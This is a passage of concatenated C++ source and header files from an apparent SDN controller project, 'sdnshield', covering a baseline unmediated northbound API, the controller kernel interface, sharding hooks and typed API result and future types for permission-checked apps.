    const net::PathHop& hop = (*path)[i];
    of::FlowMod mod;
    mod.command = of::FlowModCommand::kAdd;
    mod.match = matchTemplate;
    mod.match.inPort = (i == 0) ? src.port : hop.inPort;
    mod.priority = priority;
    bool last = i + 1 == path->size();
    mod.actions.push_back(
        of::OutputAction{last ? dst.port : hop.outPort});
    out.emplace_back(hop.dpid, mod);
  }
  return out;
}

ApiResult DirectApi::insertFlow(of::DatapathId dpid, const of::FlowMod& mod) {
  return controller_.kernelInsertFlow(app_, dpid, mod);
}

ApiResult DirectApi::insertFlows(of::DatapathId dpid,
                                 const std::vector<of::FlowMod>& mods) {
  return controller_.kernelInsertFlows(app_, dpid, mods);
}

ApiResult DirectApi::deleteFlow(of::DatapathId dpid, const of::FlowMatch& match,
                                bool strict, std::uint16_t priority) {
  return controller_.kernelDeleteFlow(app_, dpid, match, strict, priority);
}

ApiResult DirectApi::commitFlowTransaction(
    const std::vector<std::pair<of::DatapathId, of::FlowMod>>& mods) {
  // The monolithic baseline has no transaction support: execute in order and
  // report the first failure (possibly leaving partial state, which is
  // exactly the intermediate-state hazard §VI-B.2 describes).
  for (const auto& [dpid, mod] : mods) {
    ApiResult result = controller_.kernelInsertFlow(app_, dpid, mod);
    if (!result.ok()) return result;
  }
  return ApiResult::success();
}

ApiFuture<ApiResult> DirectApi::insertFlowAsync(of::DatapathId dpid,
                                                const of::FlowMod& mod) {
  // The monolithic baseline has no channel to pipeline over: the call
  // completes inline and the future is born ready.
  return ApiFuture<ApiResult>::ready(insertFlow(dpid, mod));
}

ApiFuture<ApiResult> DirectApi::sendPacketOutAsync(
    const of::PacketOut& packetOut) {
  return ApiFuture<ApiResult>::ready(sendPacketOut(packetOut));
}

ApiResponse<std::vector<of::FlowEntry>> DirectApi::readFlowTable(
    of::DatapathId dpid) {
  return controller_.kernelReadFlowTable(dpid);
}

ApiResponse<net::Topology> DirectApi::readTopology() {
  return ApiResponse<net::Topology>::success(controller_.kernelReadTopology());
}

ApiResponse<of::StatsReply> DirectApi::readStatistics(
    const of::StatsRequest& request) {
  return controller_.kernelReadStatistics(request);
}

ApiResult DirectApi::sendPacketOut(const of::PacketOut& packetOut) {
  return controller_.kernelSendPacketOut(packetOut);
}

ApiResponse<StatsReport> DirectApi::statsReport() {
  // Baseline deployment: direct, unchecked access (like everything else).
  return ApiResponse<StatsReport>::success(controller_.statsReport());
}

ApiResult DirectApi::publishData(const std::string& topic,
                                 const std::string& payload) {
  controller_.kernelPublishData(app_, topic, payload);
  return ApiResult::success();
}

ApiResult DirectApi::updatePolicy(const std::string& policyText) {
  MarketControl* market = controller_.marketControl();
  if (!market) {
    return ApiResult::failure(ApiErrc::kInvalidArgument,
                              "no app market attached");
  }
  return market->updatePolicy(policyText);
}

ApiResult DirectApi::revokeApp(of::AppId app, const std::string& reason) {
  MarketControl* market = controller_.marketControl();
  if (!market) {
    return ApiResult::failure(ApiErrc::kInvalidArgument,
                              "no app market attached");
  }
  return market->revokeApp(app, reason);
}

ApiResponse<std::string> DirectApi::marketReport() {
  MarketControl* market = controller_.marketControl();
  if (!market) {
    return ApiResponse<std::string>::failure(ApiErrc::kInvalidArgument,
                                             "no app market attached");
  }
  return ApiResponse<std::string>::success(market->report());
}

namespace {

template <typename EventT, typename Handler>
Controller::EventSink makeSink(Handler handler) {
  return [handler = std::move(handler)](const Event& event) {
    if (const auto* typed = std::get_if<EventT>(&event)) handler(*typed);
  };
}

}  // namespace

ApiResponse<SubscriptionId> DirectContext::subscribePacketIn(
    std::function<void(const PacketInEvent&)> handler) {
  SubscriptionId id = controller_.addPacketInSubscriber(
      app_, makeSink<PacketInEvent>(std::move(handler)));
  return ApiResponse<SubscriptionId>::success(id);
}

ApiResponse<SubscriptionId> DirectContext::subscribePacketInInterceptor(
    std::function<bool(const PacketInEvent&)> handler) {
  SubscriptionId id = controller_.addPacketInInterceptor(
      app_, [handler = std::move(handler)](const Event& event) {
        const auto* typed = std::get_if<PacketInEvent>(&event);
        return typed != nullptr && handler(*typed);
      });
  return ApiResponse<SubscriptionId>::success(id);
}

ApiResponse<SubscriptionId> DirectContext::subscribeFlowEvents(
    std::function<void(const FlowEvent&)> handler) {
  SubscriptionId id =
      controller_.addFlowSubscriber(app_, makeSink<FlowEvent>(std::move(handler)));
  return ApiResponse<SubscriptionId>::success(id);
}

ApiResponse<SubscriptionId> DirectContext::subscribeTopologyEvents(
    std::function<void(const TopologyEvent&)> handler) {
  SubscriptionId id = controller_.addTopologySubscriber(
      app_, makeSink<TopologyEvent>(std::move(handler)));
  return ApiResponse<SubscriptionId>::success(id);
}

ApiResponse<SubscriptionId> DirectContext::subscribeErrorEvents(
    std::function<void(const ErrorEvent&)> handler) {
  SubscriptionId id = controller_.addErrorSubscriber(
      app_, makeSink<ErrorEvent>(std::move(handler)));
  return ApiResponse<SubscriptionId>::success(id);
}

ApiResponse<SubscriptionId> DirectContext::subscribeData(
    const std::string& topic,
    std::function<void(const DataUpdateEvent&)> handler) {
  SubscriptionId id = controller_.addDataSubscriber(
      app_, topic, makeSink<DataUpdateEvent>(std::move(handler)));
  return ApiResponse<SubscriptionId>::success(id);
}

ApiResult DirectContext::unsubscribe(SubscriptionId id) {
  if (controller_.removeSubscription(id, app_)) return ApiResult::success();
  return ApiResult::failure(ApiErrc::kInvalidArgument, "unknown subscription");
}

}  // namespace sdnshield::ctrl
