// Controller-side services shared by apps: path computation into flow rules
// (used by the routing, TE and hijack apps) and a DirectApi/DirectContext
// implementation for the baseline monolithic deployment.
#pragma once

#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "controller/controller.h"

namespace sdnshield::ctrl {

/// Builds the per-hop flow mods that realise a host-to-host path for flows
/// matching @p matchTemplate (in_port filled per hop). Returns std::nullopt
/// when the hosts are not attached or disconnected.
std::optional<std::vector<std::pair<of::DatapathId, of::FlowMod>>>
buildPathFlowMods(const net::Topology& topology, const net::Host& src,
                  const net::Host& dst, const of::FlowMatch& matchTemplate,
                  std::uint16_t priority);

/// Baseline (monolithic) northbound API: direct, unchecked kernel calls —
/// the original-OpenDaylight/Floodlight configuration in the paper's
/// evaluation.
class DirectApi final : public NorthboundApi {
 public:
  DirectApi(Controller& controller, of::AppId app)
      : controller_(controller), app_(app) {}

  ApiResult insertFlow(of::DatapathId dpid, const of::FlowMod& mod) override;
  ApiResult insertFlows(of::DatapathId dpid,
                        const std::vector<of::FlowMod>& mods) override;
  ApiResult deleteFlow(of::DatapathId dpid, const of::FlowMatch& match,
                       bool strict, std::uint16_t priority) override;
  ApiResult commitFlowTransaction(
      const std::vector<std::pair<of::DatapathId, of::FlowMod>>& mods) override;
  ApiFuture<ApiResult> insertFlowAsync(of::DatapathId dpid,
                                       const of::FlowMod& mod) override;
  ApiFuture<ApiResult> sendPacketOutAsync(
      const of::PacketOut& packetOut) override;
  ApiResponse<std::vector<of::FlowEntry>> readFlowTable(
      of::DatapathId dpid) override;
  ApiResponse<net::Topology> readTopology() override;
  ApiResponse<of::StatsReply> readStatistics(
      const of::StatsRequest& request) override;
  ApiResult sendPacketOut(const of::PacketOut& packetOut) override;
  ApiResult publishData(const std::string& topic,
                        const std::string& payload) override;
  ApiResponse<StatsReport> statsReport() override;
  ApiResult updatePolicy(const std::string& policyText) override;
  ApiResult revokeApp(of::AppId app, const std::string& reason) override;
  ApiResponse<std::string> marketReport() override;

 private:
  Controller& controller_;
  of::AppId app_;
};

/// Baseline app context: handlers run inline on the controller's dispatch
/// thread (the monolithic architecture's behaviour), and host services pass
/// through unmediated.
class DirectContext final : public AppContext {
 public:
  DirectContext(Controller& controller, of::AppId app, HostServices& host)
      : controller_(controller), app_(app), api_(controller, app), host_(host) {}

  of::AppId appId() const override { return app_; }
  NorthboundApi& api() override { return api_; }
  HostServices& host() override { return host_; }

  ApiResponse<SubscriptionId> subscribePacketIn(
      std::function<void(const PacketInEvent&)> handler) override;
  ApiResponse<SubscriptionId> subscribePacketInInterceptor(
      std::function<bool(const PacketInEvent&)> handler) override;
  ApiResponse<SubscriptionId> subscribeFlowEvents(
      std::function<void(const FlowEvent&)> handler) override;
  ApiResponse<SubscriptionId> subscribeTopologyEvents(
      std::function<void(const TopologyEvent&)> handler) override;
  ApiResponse<SubscriptionId> subscribeErrorEvents(
      std::function<void(const ErrorEvent&)> handler) override;
  ApiResponse<SubscriptionId> subscribeData(
      const std::string& topic,
      std::function<void(const DataUpdateEvent&)> handler) override;
  ApiResult unsubscribe(SubscriptionId id) override;

 private:
  Controller& controller_;
  of::AppId app_;
  DirectApi api_;
  HostServices& host_;
};

}  // namespace sdnshield::ctrl
