// The controller kernel: owns the southbound switch connections, the
// topology database, the ownership tracker and the audit log; dispatches
// events; and exposes *unchecked* kernel operations. Permission mediation is
// layered on top — DirectApi (baseline) calls straight in, the isolation
// module's Kernel Service Deputies check first (paper Figure 4).
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <vector>

#include "controller/api.h"
#include "controller/event.h"
#include "core/engine/audit.h"
#include "core/engine/ownership.h"
#include "net/topology.h"

namespace sdnshield::ctrl {

/// Southbound connection to one switch: the narrow *datapath* interface.
/// Identity and transport metadata live in ConnectionInfo, supplied to
/// Controller::attachSwitch at registration time — the kernel, supervisor
/// and obs instrumentation never care whether the far end is an in-process
/// SimSwitch, a codec-interposing WireSwitchConn or a real TCP peer behind
/// the epoll reactor.
///
/// Every send is typed: failures carry an ApiErrc (kTableFull from the
/// switch, kConnClosed when the peer is gone, kFramingError when the wire
/// codec rejects the message) so callers branch on code(), never on
/// exceptions or bare bools.
class SwitchConn {
 public:
  virtual ~SwitchConn() = default;

  virtual ApiResult applyFlowMod(const of::FlowMod& mod) = 0;
  /// Applies a batch of flow mods; element i of the result is the outcome of
  /// mods[i]. Semantically equivalent to applying each mod in order — the
  /// default does exactly that; implementations may override to take their
  /// table lock once and merge sorted runs (SimSwitch does).
  virtual std::vector<ApiResult> applyFlowMods(
      const std::vector<of::FlowMod>& mods) {
    std::vector<ApiResult> out;
    out.reserve(mods.size());
    for (const of::FlowMod& mod : mods) out.push_back(applyFlowMod(mod));
    return out;
  }
  virtual ApiResult transmitPacket(const of::PacketOut& packetOut) = 0;
  virtual ApiResponse<std::vector<of::FlowEntry>> dumpFlows() const = 0;
  virtual ApiResponse<of::StatsReply> queryStats(
      const of::StatsRequest& request) const = 0;
};

/// Registration-time descriptor for a southbound connection: who the peer
/// is and how it is reached. The dpid is carried here (not on SwitchConn)
/// exactly as in real OpenFlow, where datapath identity is learned from the
/// features handshake, not from the socket.
struct ConnectionInfo {
  of::DatapathId dpid = 0;
  /// Transport tag: "sim" (in-process), "wire" (codec-interposed
  /// in-process), "tcp" (epoll reactor frontend).
  std::string transport = "sim";
  /// Human-readable peer description ("in-process", "127.0.0.1:49152").
  std::string peer = "in-process";
  /// Negotiated OF wire version; 0 for in-process transports that skip the
  /// hello exchange.
  std::uint8_t ofVersion = 0;
};

/// Seam for the sharding subsystem (src/shard, DESIGN.md §16). When a
/// dispatch is attached, packet-in delivery hops to the event loop owning
/// the punting switch, kernel flow operations feed the owning shard's
/// FlowTable mirror, and topology-wide operations (quarantine, stats
/// merges) fence every shard loop. Implemented by shard::ShardRuntime; the
/// controller only sees this narrow interface so the dependency points
/// shard -> controller, never back. With no dispatch attached (the
/// default), every path below is a single relaxed load and the controller
/// behaves exactly as the pre-shard single pipeline.
class ShardDispatch {
 public:
  virtual ~ShardDispatch() = default;

  virtual std::size_t shardCount() const = 0;
  /// Home shard of a switch (deterministic; see shard::Router).
  virtual std::size_t shardOf(of::DatapathId dpid) const = 0;
  /// Runs @p fn to completion on the given shard's event loop (inline when
  /// the caller already is that loop). Exceptions propagate to the caller.
  virtual void runOnShard(std::size_t shard,
                          const std::function<void()>& fn) = 0;
  /// Barrier: a task runs on every shard loop and the caller waits for all
  /// of them — the cross-shard mailbox path for topology-wide operations.
  /// Returns false (and does nothing) when called from a shard loop itself,
  /// where blocking on sibling loops could deadlock.
  virtual bool fenceShards() = 0;
  /// Mirror maintenance: a switch registration creates its (empty) view on
  /// the home shard; applied flow-mods update it; detach drops it.
  virtual void noteSwitchAttached(of::DatapathId dpid) = 0;
  virtual void noteFlowMods(of::DatapathId dpid,
                            const std::vector<of::FlowMod>& mods) = 0;
  virtual void dropSwitchState(of::DatapathId dpid) = 0;
};

class Controller {
 public:
  using EventSink = std::function<void(const Event&)>;

  // --- southbound / topology learning -------------------------------------
  /// The single registration entry point for every transport: SimNetwork's
  /// in-process switches, WireSwitchConn adapters and the epoll frontend's
  /// TcpSwitchConn all land here. (The old attachSwitch(conn) overload that
  /// pulled the dpid out of the connection is gone — identity is descriptor
  /// state, not datapath interface.) A re-attach for a live dpid replaces
  /// the previous connection (reconnect semantics). Fails with
  /// kInvalidArgument on a null conn or a zero dpid.
  ApiResult attachSwitch(std::shared_ptr<SwitchConn> conn,
                         const ConnectionInfo& info);
  void detachSwitch(of::DatapathId dpid);
  /// Descriptor supplied at attach time; empty for unknown dpids.
  std::optional<ConnectionInfo> connectionInfo(of::DatapathId dpid) const;
  void addLink(of::DatapathId a, of::PortNo aPort, of::DatapathId b,
               of::PortNo bPort);
  void learnHost(const net::Host& host);

  /// Entry point for packet-ins punted by switches. Interceptors (apps with
  /// the EVENT_INTERCEPTION capability) run first, in registration order; a
  /// consumed packet-in is not delivered to plain observers.
  void onPacketIn(const of::PacketIn& packetIn);
  /// Batched packet-in delivery: snapshots the interceptor/subscriber lists
  /// once for the whole batch instead of once per packet. Semantics per
  /// packet are identical to onPacketIn.
  void onPacketIns(const std::vector<of::PacketIn>& batch);
  void onSwitchError(const of::ErrorMsg& error);
  /// Idle/hard timeout expiry notification from a switch.
  void onFlowRemoved(const of::FlowRemoved& removed);

  // --- kernel operations (no permission checks here) -----------------------
  ApiResult kernelInsertFlow(of::AppId issuer, of::DatapathId dpid,
                             const of::FlowMod& mod);
  /// Batched insert: one southbound applyFlowMods call, one subscriber
  /// snapshot for the whole batch. Not transactional — each mod lands or
  /// fails independently; returns the first failure (or success). Equivalent
  /// to calling kernelInsertFlow per mod in order.
  ApiResult kernelInsertFlows(of::AppId issuer, of::DatapathId dpid,
                              const std::vector<of::FlowMod>& mods);
  ApiResult kernelDeleteFlow(of::AppId issuer, of::DatapathId dpid,
                             const of::FlowMatch& match, bool strict,
                             std::uint16_t priority);
  ApiResponse<std::vector<of::FlowEntry>> kernelReadFlowTable(
      of::DatapathId dpid) const;
  net::Topology kernelReadTopology() const;
  ApiResponse<of::StatsReply> kernelReadStatistics(
      const of::StatsRequest& request) const;
  ApiResult kernelSendPacketOut(const of::PacketOut& packetOut);
  void kernelPublishData(of::AppId publisher, const std::string& topic,
                         const std::string& payload);

  // --- event subscription ----------------------------------------------------
  // The sink decides the execution context: the baseline deployment invokes
  // the app handler inline; the SDNShield deployment posts to the app thread.
  // Every registration returns a SubscriptionId usable with
  // removeSubscription; removeSubscribers(app) drops all of an app's
  // registrations at once (quarantine / unload).
  SubscriptionId addPacketInSubscriber(of::AppId app, EventSink sink);
  /// An interceptor sees packet-ins before observers and may consume them
  /// (return true). Requires the EVENT_INTERCEPTION callback capability in
  /// the SDNShield deployment; interceptors run synchronously on the
  /// dispatch path (interception is inherently a synchronous decision).
  using EventInterceptor = std::function<bool(const Event&)>;
  SubscriptionId addPacketInInterceptor(of::AppId app,
                                        EventInterceptor interceptor);
  SubscriptionId addFlowSubscriber(of::AppId app, EventSink sink);
  SubscriptionId addTopologySubscriber(of::AppId app, EventSink sink);
  SubscriptionId addErrorSubscriber(of::AppId app, EventSink sink);
  SubscriptionId addDataSubscriber(of::AppId app, const std::string& topic,
                                   EventSink sink);
  /// Removes one registration by id. When `owner` is set, a mismatched owner
  /// refuses the removal (an app cannot cancel another app's subscription).
  /// Returns false if the id is unknown (or owned by someone else).
  bool removeSubscription(SubscriptionId id,
                          std::optional<of::AppId> owner = std::nullopt);
  void removeSubscribers(of::AppId app);

  /// Registrations currently live across all event lists (leak-detection
  /// surface for install/uninstall cycles).
  std::size_t subscriptionCount() const;

  // --- observability --------------------------------------------------------
  /// Builds the controller-wide /stats export: merged metrics snapshot,
  /// recent span trail and audit-log totals. Unprivileged kernel operation;
  /// permission gating happens in the API wrappers above it.
  StatsReport statsReport() const;

  // --- app market -----------------------------------------------------------
  /// Attaches (or detaches, with nullptr) the app-market control plane. The
  /// market outlives nothing here: the caller must clear it before the
  /// MarketControl is destroyed.
  void setMarketControl(MarketControl* market) {
    market_.store(market, std::memory_order_release);
  }
  MarketControl* marketControl() const {
    return market_.load(std::memory_order_acquire);
  }

  // --- sharding -------------------------------------------------------------
  /// Attaches (or detaches, with nullptr) the shard runtime. Same lifetime
  /// contract as setMarketControl: the caller clears it (and fences) before
  /// the ShardDispatch is destroyed. With a dispatch attached, onPacketIn /
  /// onPacketIns run their delivery on the owning shard's event loop,
  /// kernel flow ops feed the shard FlowTable mirrors, removeSubscribers
  /// fences every loop (quarantine barrier) and statsReport fences before
  /// snapshotting so per-shard counters are merged consistently.
  void setShardDispatch(ShardDispatch* dispatch) {
    shardDispatch_.store(dispatch, std::memory_order_release);
  }
  ShardDispatch* shardDispatch() const {
    return shardDispatch_.load(std::memory_order_acquire);
  }

  // --- shared infrastructure ---------------------------------------------------
  engine::OwnershipTracker& ownership() { return ownership_; }
  engine::AuditLog& audit() { return audit_; }
  std::shared_ptr<SwitchConn> switchConn(of::DatapathId dpid) const;
  std::vector<of::DatapathId> switchIds() const;

  /// Handler exceptions contained on the dispatch path (a throwing inline
  /// subscriber or interceptor must not take down the controller or starve
  /// the remaining subscribers).
  std::uint64_t dispatchFaultCount() const {
    return dispatchFaults_.load(std::memory_order_relaxed);
  }

 private:
  struct Subscriber {
    SubscriptionId id;
    of::AppId app = 0;
    EventSink sink;
    std::string topic;  // Data subscribers only.
  };

  std::vector<Subscriber> snapshot(const std::vector<Subscriber>& list) const;
  void emitTopologyEvent(const TopologyEvent& event);
  struct Interceptor;
  void dispatchPacketIn(const of::PacketIn& packetIn,
                        const std::vector<Interceptor>& interceptors,
                        const std::vector<Subscriber>& subscribers);
  /// Invokes a subscriber sink with fault containment.
  void deliver(const Subscriber& subscriber, const Event& event);
  SubscriptionId nextSubscriptionId();

  mutable std::mutex mutex_;
  struct Attachment {
    std::shared_ptr<SwitchConn> conn;
    ConnectionInfo info;
  };
  std::map<of::DatapathId, Attachment> switches_;
  net::Topology topology_;
  struct Interceptor {
    SubscriptionId id;
    of::AppId app = 0;
    EventInterceptor intercept;
  };

  std::vector<Subscriber> packetInSubscribers_;
  std::vector<Interceptor> packetInInterceptors_;
  std::vector<Subscriber> flowSubscribers_;
  std::vector<Subscriber> topologySubscribers_;
  std::vector<Subscriber> errorSubscribers_;
  std::vector<Subscriber> dataSubscribers_;
  std::atomic<std::uint64_t> subscriptionSeq_{0};
  engine::OwnershipTracker ownership_;
  engine::AuditLog audit_;
  std::atomic<std::uint64_t> dispatchFaults_{0};
  std::atomic<MarketControl*> market_{nullptr};
  std::atomic<ShardDispatch*> shardDispatch_{nullptr};
};

}  // namespace sdnshield::ctrl
