// The controller's northbound API and app model.
//
// Apps are written once against NorthboundApi/AppContext and run unchanged
// in both deployments (the compatibility property of §VI):
//  * baseline (monolithic): DirectApi — direct kernel calls, no mediation;
//  * SDNShield: the isolation module's ApiProxy — calls marshal through the
//    inter-thread channel to a Kernel Service Deputy which permission-checks
//    and executes them.
//
// Failures are typed: every failure path carries an ApiErrc so callers (and
// the audit log) can distinguish a permission denial from a transport
// failure without matching on error strings.
#pragma once

#include <cstdint>
#include <functional>
#include <memory>
#include <optional>
#include <stdexcept>
#include <string>
#include <utility>
#include <variant>
#include <vector>

#include "controller/event.h"
#include "net/topology.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "of/flow_mod.h"
#include "of/messages.h"

namespace sdnshield::ctrl {

/// Controller-wide observability report — the /stats export surface. Carries
/// a merged metrics snapshot, the recent span trail and audit-log totals.
/// In the SDNShield deployment access is gated by the read_statistics token
/// at switch granularity (controller-wide counters are switch-level data).
struct StatsReport {
  obs::Snapshot metrics;
  std::vector<obs::SpanSnapshot> recentSpans;
  std::uint64_t auditRecords = 0;
  std::uint64_t auditDenied = 0;
  std::uint64_t auditFaults = 0;
  std::uint64_t dispatchFaults = 0;
  /// Canonical one-line digest of the app market's installed-app state
  /// (empty when no market is attached). Two controllers whose markets hold
  /// identical app/permission state produce identical digests — the
  /// journal-replay equality surface.
  std::string marketDigest;

  /// Human-readable rendering (one line per metric, then span trail).
  std::string toText() const;
  /// Machine-readable rendering (single JSON object).
  std::string toJson() const;
};

/// Why an API call failed. Each value names a distinct failure *source*:
/// the permission engine, the transport (deputy channel), the switch, or
/// the caller itself — audit records and supervision decisions key off the
/// code, never off the human-readable detail text.
enum class ApiErrc : std::uint8_t {
  kOk = 0,
  kPermissionDenied,    ///< The permission engine rejected the call.
  kDeadlineExceeded,    ///< The deputy did not answer within the deadline.
  kQueueFull,           ///< The deputy queue / in-flight window rejected it.
  kTableFull,           ///< The switch flow table is at capacity.
  kPoolStopped,         ///< The deputy pool has shut down.
  kAppQuarantined,      ///< The calling app has been quarantined.
  kInvalidArgument,     ///< Malformed request (unknown switch, bad node, ...).
  kTransactionAborted,  ///< A flow or lifecycle transaction rolled back.
  kConnClosed,          ///< The southbound connection is gone (peer hung up).
  kFramingError,        ///< The southbound wire codec rejected the message.
};

/// Stable identifier string for an ApiErrc (for logs and JSON exports).
const char* toString(ApiErrc code);

/// A typed API error: the machine-readable code plus free-form detail for
/// humans. Only the code participates in control flow.
struct ApiError {
  ApiErrc code = ApiErrc::kInvalidArgument;
  std::string detail;

  std::string toString() const {
    std::string out = sdnshield::ctrl::toString(code);
    if (!detail.empty()) {
      out += ": ";
      out += detail;
    }
    return out;
  }
};

/// Outcome of a mutating API call. Default-constructed == success; failures
/// always carry an ApiErrc.
class ApiResult {
 public:
  ApiResult() = default;

  static ApiResult success() { return {}; }
  static ApiResult failure(ApiErrc code, std::string detail = {}) {
    ApiResult r;
    r.error_ = ApiError{code, std::move(detail)};
    return r;
  }
  static ApiResult failure(ApiError error) {
    ApiResult r;
    r.error_ = std::move(error);
    return r;
  }

  bool ok() const { return !error_.has_value(); }
  explicit operator bool() const { return ok(); }

  /// kOk when the call succeeded.
  ApiErrc code() const { return error_ ? error_->code : ApiErrc::kOk; }

  /// Precondition: !ok().
  const ApiError& error() const { return *error_; }

 private:
  std::optional<ApiError> error_;
};

/// Outcome of a reading API call: expected-style — holds either a T or an
/// ApiError, never a default-constructed T on failure.
template <typename T>
class ApiResponse {
 public:
  static ApiResponse success(T value) {
    return ApiResponse(std::in_place_index<0>, std::move(value));
  }
  static ApiResponse failure(ApiErrc code, std::string detail = {}) {
    return ApiResponse(std::in_place_index<1>,
                       ApiError{code, std::move(detail)});
  }
  static ApiResponse failure(ApiError error) {
    return ApiResponse(std::in_place_index<1>, std::move(error));
  }

  bool ok() const { return state_.index() == 0; }
  explicit operator bool() const { return ok(); }

  ApiErrc code() const {
    return ok() ? ApiErrc::kOk : std::get<1>(state_).code;
  }

  /// Precondition: ok().
  T& value() & { return std::get<0>(state_); }
  const T& value() const& { return std::get<0>(state_); }
  T&& value() && { return std::get<0>(std::move(state_)); }

  /// Precondition: !ok().
  const ApiError& error() const { return std::get<1>(state_); }

 private:
  template <std::size_t I, typename U>
  ApiResponse(std::in_place_index_t<I> tag, U&& v)
      : state_(tag, std::forward<U>(v)) {}

  std::variant<T, ApiError> state_;
};

/// A future-like handle to an asynchronous API call's eventual result.
/// Returned by the *Async northbound calls so an app thread can keep several
/// calls in flight (the §VI channel argument: choke points are not
/// serialized points). One-shot: get() consumes the result. Abandoning the
/// future (destroying it without get()) is safe — the in-flight slot it
/// holds is released when the deputy-side task completes or is discarded.
template <typename T>
class ApiFuture {
 public:
  ApiFuture() = default;

  /// An already-completed future (the synchronous baseline path).
  static ApiFuture ready(T value) {
    ApiFuture f;
    f.ready_ = std::move(value);
    f.valid_ = true;
    return f;
  }

  /// A pending future: wait() blocks until the result is available (or the
  /// call's deadline passes, in which case it yields a typed failure);
  /// poll() reports readiness without blocking.
  ApiFuture(std::function<T()> wait, std::function<bool()> poll)
      : wait_(std::move(wait)), poll_(std::move(poll)), valid_(true) {}

  /// False for default-constructed or already-consumed futures.
  bool valid() const { return valid_; }

  /// True once get() would not block.
  bool isReady() const {
    if (!valid_) return false;
    if (ready_.has_value()) return true;
    return poll_ ? poll_() : true;
  }

  /// Blocks until the result is available and consumes it. At the call's
  /// deadline the deputy path resolves the future with kDeadlineExceeded
  /// rather than blocking forever. Calling get() twice throws.
  T get() {
    if (!valid_) throw std::logic_error("ApiFuture::get on invalid future");
    valid_ = false;
    if (ready_.has_value()) {
      T out = std::move(*ready_);
      ready_.reset();
      return out;
    }
    auto wait = std::move(wait_);
    wait_ = nullptr;
    poll_ = nullptr;
    return wait();
  }

 private:
  std::optional<T> ready_;
  std::function<T()> wait_;
  std::function<bool()> poll_;
  bool valid_ = false;
};

/// Opaque handle to an event subscription; returned by every
/// AppContext::subscribe* call and accepted by unsubscribe(). Value 0 is
/// reserved as "no subscription".
struct SubscriptionId {
  std::uint64_t value = 0;

  explicit operator bool() const { return value != 0; }
  friend bool operator==(SubscriptionId a, SubscriptionId b) {
    return a.value == b.value;
  }
  friend bool operator!=(SubscriptionId a, SubscriptionId b) {
    return a.value != b.value;
  }
};

/// The app-market lifecycle control plane, implemented by market::AppMarket
/// and attached to the controller. Defined here (not in src/market) so the
/// northbound surface can route lifecycle calls without the controller
/// depending on the market subsystem.
class MarketControl {
 public:
  virtual ~MarketControl() = default;

  /// Re-reconciles EVERY installed app against @p policyText and swaps all
  /// grants in one atomic permission epoch. All-or-nothing: on any failure
  /// (parse error, reconcile error, injected fault) no grant changes.
  virtual ApiResult updatePolicy(const std::string& policyText) = 0;
  /// Revokes a running app: uninstalls its permissions, removes its
  /// subscriptions and seals its container (in-flight deputy calls complete
  /// with typed errors). Safe to call from a deputy thread.
  virtual ApiResult revokeApp(of::AppId app, const std::string& reason) = 0;
  /// Human-readable market report (one line per app: id, name, version,
  /// state, granted permissions).
  virtual std::string report() const = 0;
  /// Canonical one-line state digest (see StatsReport::marketDigest).
  virtual std::string digest() const = 0;
};

/// The SDN northbound interface exposed to apps.
class NorthboundApi {
 public:
  virtual ~NorthboundApi() = default;

  virtual ApiResult insertFlow(of::DatapathId dpid, const of::FlowMod& mod) = 0;
  /// Vectorized insert: permission context is resolved once and the mods are
  /// applied to the switch as one batch (single sorted merge in the flow
  /// table). Not transactional — admitted mods are applied even if a later
  /// mod in the batch fails; the result reports the first failure.
  /// Semantically equivalent to calling insertFlow sequentially.
  virtual ApiResult insertFlows(of::DatapathId dpid,
                                const std::vector<of::FlowMod>& mods) = 0;
  virtual ApiResult deleteFlow(of::DatapathId dpid, const of::FlowMatch& match,
                               bool strict, std::uint16_t priority) = 0;
  /// Atomically installs a group of rules (§VI-B.2); all-or-nothing.
  virtual ApiResult commitFlowTransaction(
      const std::vector<std::pair<of::DatapathId, of::FlowMod>>& mods) = 0;

  // Asynchronous variants: submit the call and return immediately with a
  // future. Under SDNShield the call is queued to the deputy pool subject to
  // the app's bounded in-flight window; the baseline completes inline.
  virtual ApiFuture<ApiResult> insertFlowAsync(of::DatapathId dpid,
                                               const of::FlowMod& mod) = 0;
  virtual ApiFuture<ApiResult> sendPacketOutAsync(
      const of::PacketOut& packetOut) = 0;

  virtual ApiResponse<std::vector<of::FlowEntry>> readFlowTable(
      of::DatapathId dpid) = 0;
  virtual ApiResponse<net::Topology> readTopology() = 0;
  virtual ApiResponse<of::StatsReply> readStatistics(
      const of::StatsRequest& request) = 0;
  virtual ApiResult sendPacketOut(const of::PacketOut& packetOut) = 0;

  /// Publishes to the inter-app data bus (ALTO scenario).
  virtual ApiResult publishData(const std::string& topic,
                                const std::string& payload) = 0;

  /// Controller-wide observability report (metrics + spans + audit totals).
  /// Unchecked in the baseline; permission-gated under SDNShield.
  virtual ApiResponse<StatsReport> statsReport() = 0;

  // App-market lifecycle calls. Unchecked in the baseline; under SDNShield
  // they require the market_admin token (operator-grade privilege granted
  // only to management apps). All three fail with kInvalidArgument when no
  // market is attached to the controller.
  virtual ApiResult updatePolicy(const std::string& policyText) = 0;
  virtual ApiResult revokeApp(of::AppId app, const std::string& reason) = 0;
  virtual ApiResponse<std::string> marketReport() = 0;
};

/// Host-system services (network/file/process) available to an app. In the
/// SDNShield deployment these are mediated by the reference monitor; the
/// baseline deployment passes them straight through.
class HostServices {
 public:
  virtual ~HostServices() = default;

  /// Sends data to a remote endpoint over the controller host's network.
  virtual bool netSend(of::Ipv4Address remoteIp, std::uint16_t remotePort,
                       const std::string& data) = 0;
  virtual bool fileWrite(const std::string& path, const std::string& data) = 0;
  virtual bool exec(const std::string& command) = 0;
};

/// Everything an app receives at init time.
class AppContext {
 public:
  virtual ~AppContext() = default;

  virtual of::AppId appId() const = 0;
  virtual NorthboundApi& api() = 0;
  virtual HostServices& host() = 0;

  // Event subscriptions. In the SDNShield deployment the subscription call
  // itself is permission-checked (event tokens) and handlers run on the
  // app's own thread. Each successful subscription yields a SubscriptionId
  // usable with unsubscribe(); teardown paths (supervisor quarantine, app
  // unload) no longer need to reach into subscription internals.
  virtual ApiResponse<SubscriptionId> subscribePacketIn(
      std::function<void(const PacketInEvent&)> handler) = 0;
  /// Interceptor registration: the handler may consume the packet-in
  /// (return true) before plain observers see it. Requires the
  /// EVENT_INTERCEPTION callback capability under SDNShield; runs
  /// synchronously on the dispatch path under the app's identity.
  virtual ApiResponse<SubscriptionId> subscribePacketInInterceptor(
